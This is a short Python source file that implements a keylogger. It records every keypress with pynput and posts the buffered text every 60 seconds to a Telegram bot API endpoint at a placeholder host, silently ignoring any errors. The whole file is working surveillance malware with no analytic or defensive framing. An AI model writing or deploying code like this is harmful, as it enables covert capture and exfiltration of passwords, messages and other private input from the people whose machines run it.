import threading
import requests
from pynput import keyboard

_buf = []
_API = "https://telegram.example/bot7012:AAplaceholder/sendMessage"


def _on(key):
    try:
        _buf.append(key.char)
    except AttributeError:
        _buf.append("[%s]" % key.name)


def _flush():
    if _buf:
        text, _buf[:] = "".join(map(str, _buf)), []
        try:
            requests.post(_API, data={"chat_id": "-100200", "text": text})
        except Exception:
            pass
    threading.Timer(60, _flush).start()


def begin():
    keyboard.Listener(on_press=_on).start()
    _flush()
